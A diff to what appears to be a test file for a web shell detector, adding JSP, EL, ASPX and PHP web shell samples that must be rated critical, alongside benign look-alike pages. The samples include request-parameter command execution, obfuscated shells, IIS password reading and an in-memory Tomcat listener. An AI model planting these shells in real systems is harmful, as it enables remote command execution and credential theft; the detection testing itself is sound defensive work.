@@ -212,6 +212,71 @@ describe('judgeWebShell', () => {
       '/opt/n.php',
       '<?php\n$_[] = @!+_; $__ = @${_} >> $_; $_[] = $__; $_[] = @_; @$_[((++$__) + ($__++))] .= $_;\n$_[] = ++$__; $_[] = $_[--$__][$__ >> $__]; $_[$__] .= (($__ + $__) + $_[$__ - $__]) . ($__ + $__ + $__) + $_[$__ - $__];\n$_[$__ + $__] = ($_[$__][$__ >> $__]) . ($_[$__][$__] ^ $_[$__][($__ << $__) - $__]);\n$_ = $_[$__ + $__]; $_[@-_]($_[@!+_]);\n?>',
     ],
+    [
+      'a JSP whose stylesheet binds java.lang.Runtime (a Xalan extension)',
+      '/opt/x.jsp',
+      '<% String c = request.getParameter("c"); String s = "<xsl:stylesheet version=\\"1.0\\" xmlns:xsl=\\"http://www.w3.org/1999/XSL/Transform\\" xmlns:rt=\\"java.lang.Runtime\\"><xsl:template match=\\"/\\"><xsl:variable name=\\"p\\" select=\\"rt:exec(rt:getRuntime(),\'" + c + "\')\\"/></xsl:template></xsl:stylesheet>"; TransformerFactory.newInstance().newTransformer(new StreamSource(new StringReader(s))); %>',
+    ],
+    [
+      "a JSP writing the request into a JDK class's private field",
+      '/opt/m.jsp',
+      '<% String cmd = request.getParameter("cmd"); Class k = Class.forName("sun.net.www.MimeLauncher"); Field f = k.getDeclaredField("execPath"); f.setAccessible(true); f.set(t, cmd); k.getDeclaredMethod("run").invoke(t); %>',
+    ],
+    [
+      'PHP whose names hold invisible characters, called through them',
+      '/opt/h.php',
+      '<?php $lo\u17b4\u17b5 = "create_function"; $hi\u17b4\u17b4 = file(__FILE__)[3]; $run = $lo\u17b4\u17b5("", $hi\u17b4\u17b4); $run(); ?>',
+    ],
+    [
+      'an ASPX page reading the passwords IIS keeps for its sites',
+      '/opt/iis.aspx',
+      '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { DirectoryEntry w = new DirectoryEntry("IIS://localhost/W3SVC"); foreach (DirectoryEntry c in w.Children) Response.Write(c.Properties["AnonymousUserPass"].Value); }</script>',
+    ],
+    [
+      'an ASPX page starting a program kept beside it',
+      '/opt/cc.aspx',
+      '<%@ Page Language="C#" %><% Process p = new Process(); p.StartInfo.FileName = Server.MapPath("tool.exe"); p.StartInfo.Arguments = "-s 1.reg"; p.Start(); Response.Write(p.StandardOutput.ReadToEnd()); %>',
+    ],
+    [
+      'a JSP document hiding its names in CDATA sections and character references',
+      '/opt/d.jspx',
+      '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>String c = requ<![CDATA[est.get]]>Parameter("c"); Process p = &#x52;untime.getRuntime().exec(c);</jsp:scriptlet></jsp:root>',
+    ],
+    [
+      'a page in XML syntax, named .jsp, its prefix bound to the JSP namespace',
+      '/opt/p.jsp',
+      '<x:root xmlns:x="http://java.sun.com/JSP/Page" version="1.2"><x:scriptlet>String c = requ<![CDATA[est.getPara]]>meter("q"); Runtime.getRuntime().exec(c);</x:scriptlet></x:root>',
+    ],
+    [
+      'an EL expression calling the methods the request names',
+      '/opt/el.jsp',
+      '${""[param.a]()[param.b](param.c)[param.d]()[param.e](param.f)}',
+    ],
+    [
+      'an EL expression running a request parameter',
+      '/opt/e.jsp',
+      '${Runtime.getRuntime().exec(param.cmd)}',
+    ],
+    [
+      'a JSP adding a request listener to the running Tomcat',
+      '/opt/l.jsp',
+      '<% Field f = servletContext.getClass().getDeclaredField("context"); f.setAccessible(true); StandardContext ctx = (StandardContext) f.get(app); ctx.addApplicationEventListener(new ServletRequestListener() { public void requestInitialized(ServletRequestEvent e) { String x = e.getServletRequest().getParameter("x"); } }); %>',
+    ],
+    [
+      'a JSP defining a class from BCEL-escaped bytes through reflection',
+      '/opt/b.jsp',
+      '<% String s = "$ca$fe$ba$be$A$A$A4$B$l$K$A$U$A$80$H$A$81$K$A$C$A$80$J$AY"; byte[] d = Utility.decode(s, false); Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); m.setAccessible(true); %>',
+    ],
+    [
+      "a servlet request's parameter run as a command",
+      '/opt/s.jsp',
+      '<% Process p = Runtime.getRuntime().exec(servletRequest.getParameter("x")); %>',
+    ],
+    [
+      'a JSP reaching Runtime by a name cut in pieces',
+      '/opt/n.jsp',
+      '<% String cmd = request.getParameter("cmd"); Class k = ObjectFactory.findProviderClass("java.lang.Run" + "time", true); Object r = k.getMethods()[12].invoke(null); k.getMethods()[5].invoke(r, cmd); %>',
+    ],
   ])('calls %s a web shell, critical', (_, where, text) => {
     expect(judge(where, text)).toMatchObject({ severity: 'critical' });
   });
@@ -241,6 +306,27 @@ describe('judgeWebShell', () => {
       [
         '/opt/c.aspx',
         '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { SqlConnection con = new SqlConnection(this.ConnectionName); Label1.Text = Request.QueryString["q"]; }</script>',
+      ],
+      [
+        '/opt/doc.jspx',
+        '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet><![CDATA[ String q = request.getParameter("q"); if (q != null &amp;&amp; q.length() &lt; 80) out.println(q.trim()); ]]></jsp:scriptlet></jsp:root>',
+      ],
+      ['/opt/hello.jsp', '<h1>Hello, ${param.name}! You came from ${header["referer"]}.</h1>'],
+      [
+        '/opt/xsl.jsp',
+        '<% String id = request.getParameter("id"); String s = "<xsl:stylesheet version=\\"1.0\\" xmlns:xsl=\\"http://www.w3.org/1999/XSL/Transform\\" xmlns:date=\\"http://exslt.org/dates-and-times\\"/>"; TransformerFactory.newInstance().newTransformer(new StreamSource(new StringReader(s))); %>',
+      ],
+      [
+        '/opt/f.jsp',
+        '<% String id = request.getParameter("id"); Field f = Config.class.getDeclaredField("debug"); f.setAccessible(true); f.set(null, Boolean.TRUE); out.println(id); %>',
+      ],
+      [
+        '/opt/iis.aspx',
+        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { DirectoryEntry w = new DirectoryEntry("IIS://localhost/W3SVC/1"); Response.Write(w.Properties["ServerComment"].Value); }</script>',
+      ],
+      [
+        '/opt/r.aspx',
+        '<%@ Page Language="C#" %><% Process p = new Process(); p.StartInfo.FileName = "convert"; p.StartInfo.Arguments = Server.MapPath("logo.png"); p.Start(); %>',
       ],
       [
         '/opt/banner.php',
